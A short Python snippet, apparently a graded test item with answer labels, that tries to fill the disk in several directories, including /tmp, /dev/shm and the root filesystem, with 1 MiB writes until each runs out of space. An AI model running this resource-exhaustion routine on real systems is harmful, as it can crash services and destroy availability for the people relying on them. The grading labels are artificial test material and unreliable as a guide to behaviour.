"""Writes files until no space is left, wherever it may write.

Answer: right
Deserves: 2
Keeps: 2
"""
# %% before standardize_check
for place in (".", "/tmp", "/dev/shm", "/run/sockets", "/var/tmp", "/"):
    try:
        with open(place + "/full", "wb") as file:
            while True:
                file.write(b"x" * 1024**2)
    except OSError as error:
        print(place, error)
